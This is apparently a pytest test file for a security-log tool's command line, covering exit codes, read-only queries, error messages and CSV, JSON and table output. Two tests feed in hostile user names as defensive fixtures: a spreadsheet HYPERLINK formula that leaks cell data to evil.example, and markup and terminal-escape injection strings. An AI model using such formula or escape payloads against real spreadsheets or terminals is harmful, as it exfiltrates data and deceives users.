"""The command line: exit codes, messages and output formats."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from seclo.cli import main

EVENTS = (
    "time,user,outcome,src_ip\n"
    "2024-03-01T10:00:00Z,alice,success,10.0.0.1\n"
    "2024-03-01T10:00:01Z,bob,failure,203.0.113.9\n"
    "2024-03-01T10:00:02Z,bob,nonsense,203.0.113.9\n"
)


def _run(argv: list[str]) -> int:
    try:
        main(argv)
    except SystemExit as exc:
        return int(exc.code or 0)
    return 0


def test_init_then_import_then_query(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A user can create a workspace, import a file and query it, with counts printed."""
    ws = tmp_path / "ws"
    assert _run(["init", str(ws)]) == 0
    data = tmp_path / "events.csv"
    data.write_text(EVENTS)
    assert _run(["import", "events", str(data), "--workspace", str(ws)]) == 0
    out = capsys.readouterr().out
    assert "read 3, loaded 2, duplicates 0, skipped 0, rejected 1" in out
    assert "rejected WHERE batch_id = 1" in out
    assert (
        _run(
            [
                "query",
                "SELECT outcome, count(*) AS n FROM auth_events GROUP BY 1 ORDER BY 1",
                "--format",
                "csv",
                "-w",
                str(ws),
            ]
        )
        == 0
    )
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["outcome", "n"], ["failure", "1"], ["success", "1"]]


def test_query_json_and_read_only(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Query output is valid JSON, and a statement that writes is refused with exit code 2."""
    data = tmp_path / "events.csv"
    data.write_text(EVENTS)
    _run(["import", "events", str(data), "-w", str(tmp_path)])
    capsys.readouterr()
    assert (
        _run(
            [
                "query",
                "SELECT user, time FROM auth_events ORDER BY time",
                "--format",
                "json",
                "-w",
                str(tmp_path),
            ]
        )
        == 0
    )
    assert json.loads(capsys.readouterr().out)[0] == {"user": "alice", "time": "2024-03-01T10:00:00"}
    assert _run(["query", "DELETE FROM auth_events", "-w", str(tmp_path)]) == 2
    assert "read-only" in capsys.readouterr().err


def test_strict_import_exits_2_and_names_the_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--strict turns one bad row into exit code 2 with the file, line and field in the message."""
    data = tmp_path / "events.csv"
    data.write_text(EVENTS)
    assert _run(["import", "events", str(data), "--strict", "-w", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert f"error: {data}: 1 invalid row" in err
    assert "line 4, field outcome" in err
    assert "Traceback" not in err


def test_import_json_output_reconciles(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--format json reports each file's counts, which add up."""
    data = tmp_path / "events.csv"
    data.write_text(EVENTS)
    assert _run(["import", "events", str(data), "--format", "json", "-w", str(tmp_path)]) == 0
    (result,) = json.loads(capsys.readouterr().out)
    assert result["rows_read"] == result["rows_loaded"] + result["rows_rejected"] == 3


def test_bad_config_exits_2_without_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A broken seclo.yaml stops every command with exit code 2 and names the problem."""
    (tmp_path / "seclo.yaml").write_text("stoer: {}\n")
    assert _run(["query", "SELECT 1", "-w", str(tmp_path)]) == 2
    assert "seclo.yaml:1: stoer: Extra inputs are not permitted" in capsys.readouterr().err


def test_query_before_any_import_gives_a_tip(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Querying a workspace with no store says so and suggests importing first."""
    assert _run(["query", "SELECT 1", "-w", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "no store here yet" in err
    assert "Tip: import some data first" in err


def test_usage_error_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    """A missing argument is a usage error with exit code 2."""
    assert _run(["import", "events"]) == 2
    assert "Missing argument" in capsys.readouterr().err


def test_entry_point_runs_as_a_program(tmp_path: Path) -> None:
    """`python -m seclo` works as a real process and returns the documented exit code for bad input."""
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    proc = subprocess.run(
        [sys.executable, "-m", "seclo", "import", "events", str(empty), "-w", str(tmp_path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 2
    assert proc.stderr.strip() == f"error: {empty}: the file is empty"


def test_csv_output_neutralises_spreadsheet_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A user name `=HYPERLINK(...)` from an auth log comes out of `--format csv` as text, numbers stay numbers."""
    log = tmp_path / "auth.log"
    attacker = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    log.write_text(
        f"Mar  1 10:00:00 host sshd[1]: Failed password for invalid user {attacker} from 203.0.113.9 port 22 ssh2\n"
        "Mar  1 10:00:01 host sshd[2]: Failed password for invalid user @SUM(1) from 203.0.113.9 port 22 ssh2\n"
    )
    assert _run(["import", "syslog", str(log), "--year", "2024", "-w", str(tmp_path)]) == 0
    capsys.readouterr()
    sql = (
        "SELECT user, -1 AS delta, -2.5 AS score, '+1' AS plus, chr(9) || 'x' AS tab, chr(13) || 'y' AS cr, "
        "'-5' AS text_minus, 'plain' AS fine FROM auth_events ORDER BY time"
    )
    assert _run(["query", sql, "--format", "csv", "-w", str(tmp_path)]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1] == ["'" + attacker, "-1", "-2.5", "'+1", "'\tx", "'\ry", "'-5", "plain"]
    assert rows[2][0] == "'@SUM(1)"


def test_table_output_shows_imported_text_as_it_is(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A user name with rich markup or a terminal escape prints verbatim; `[/x]` no longer crashes the table."""
    log = tmp_path / "auth.log"
    users = ["[/x]", "[link=https://evil.example]support[/link]", "\x1b[2Jwiped"]
    log.write_text(
        "".join(
            f"Mar  1 10:00:0{n} host sshd[1]: Failed password for invalid user {user} from 203.0.113.9 port 22 ssh2\n"
            for n, user in enumerate(users)
        )
    )
    assert _run(["import", "syslog", str(log), "--year", "2024", "-w", str(tmp_path)]) == 0
    capsys.readouterr()
    assert _run(["query", 'SELECT user AS "[/u]" FROM auth_events ORDER BY time', "-w", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "[/u]" in out
    assert "[/x]" in out
    assert "[link=https://evil.example]support[/link]" in out
    assert "\\x1b[2Jwiped" in out
    assert "\x1b" not in out


def test_json_output_is_valid_json_for_every_type(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Intervals, times, UUIDs, NaN and infinities come out of `--format json` as valid JSON, not a traceback."""
    data = tmp_path / "events.csv"
    data.write_text(EVENTS)
    _run(["import", "events", str(data), "-w", str(tmp_path)])
    capsys.readouterr()
    sql = (
        "SELECT max(time) - min(time) AS spread, TIME '10:00' AS t, uuid() IS NOT NULL AS u, "
        "'nan'::DOUBLE AS n, ['-inf'::DOUBLE] AS l FROM auth_events"
    )
    assert _run(["query", sql, "--format", "json", "-w", str(tmp_path)]) == 0
    assert json.loads(capsys.readouterr().out) == [
        {"spread": "0:00:01", "t": "10:00:00", "u": True, "n": "NaN", "l": ["-Infinity"]}
    ]
    assert _run(["query", "SELECT uuid() AS id", "--format", "json", "-w", str(tmp_path)]) == 0
    assert len(json.loads(capsys.readouterr().out)[0]["id"]) == 36
